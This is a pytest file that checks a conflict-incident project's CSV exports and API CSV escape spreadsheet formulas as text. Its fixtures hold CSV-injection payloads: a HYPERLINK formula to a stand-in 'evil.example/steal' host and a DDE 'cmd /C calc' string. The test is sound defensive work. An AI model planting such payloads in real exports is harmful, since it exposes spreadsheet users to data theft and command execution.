"""No spreadsheet formula in any CSV the project writes (issue 14, item 5).

Outlet, actor and summary come from article text; each starts here with a
character that spreadsheets evaluate. The ACLED and GTD exports (through the
CLI) and the API's CSV must all write them as text, the same way.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from incidentwatch.cli import app
from incidentwatch.ingest.pipeline import ingest_articles
from incidentwatch.serve.app import create_app
from incidentwatch.store import Store

TEXT = "=1+2 gunmen attacked a checkpoint in Tarmiyah on Sunday, killing two policemen."
OUTLET = '@SUM(1+1) =HYPERLINK("http://evil.example/steal","Open")'
ACTOR = "+cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(sqlite_store: Store, make_incident: Any, make_article: Any) -> Store:
    inc = make_incident(
        "h1", TEXT, date="2016-05-01", place="Tarmiyah", actor1=ACTOR,
        killed=2, killed_words="killing two",
    )  # fmt: skip
    art = make_article("h1", TEXT, [inc], published_at="2016-05-01", outlet=OUTLET)
    assert ingest_articles(sqlite_store, [art], use_embedded=True).added == 1
    return sqlite_store


def _cells(rows: list[dict[str, str]]) -> list[str]:
    return [v for r in rows for v in r.values() if isinstance(v, str)]


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [
        ("acled-csv", {"actor1": ACTOR, "source": OUTLET, "notes": TEXT.split(".")[0]}),
        ("gtd-csv", {"gname": ACTOR, "summary": TEXT.split(".")[0]}),
    ],
)
def test_export_csv_cells_cannot_be_formulas(
    hostile: Store, tmp_path: Path, fmt: str, expected: dict[str, str]
) -> None:
    out = tmp_path / f"{fmt}.csv"
    res = CliRunner().invoke(app, ["export", "--format", fmt, "-o", str(out), "--db", hostile.url])
    assert res.exit_code == 0, res.output
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1
    for col, raw in expected.items():
        assert rows[0][col] == "'" + raw, col  # the value kept, shown as text
    assert not [c for c in _cells(rows) if c.startswith(FORMULA_START)]
    if fmt == "gtd-csv":
        assert rows[0]["scite1"].startswith("'@SUM")
    # Numbers stay numbers: the neutraliser only touches text.
    assert float(rows[0]["latitude"]) > 33


def test_api_csv_uses_the_same_neutraliser(hostile: Store) -> None:
    res = TestClient(create_app(hostile)).get("/api/incidents.csv")
    assert res.status_code == 200
    rows = list(csv.DictReader(res.text.splitlines()))
    assert rows[0]["actor1"] == "'" + ACTOR and rows[0]["summary"] == "'" + TEXT.split(".")[0]
    assert not [c for c in _cells(rows) if c.startswith(FORMULA_START)]
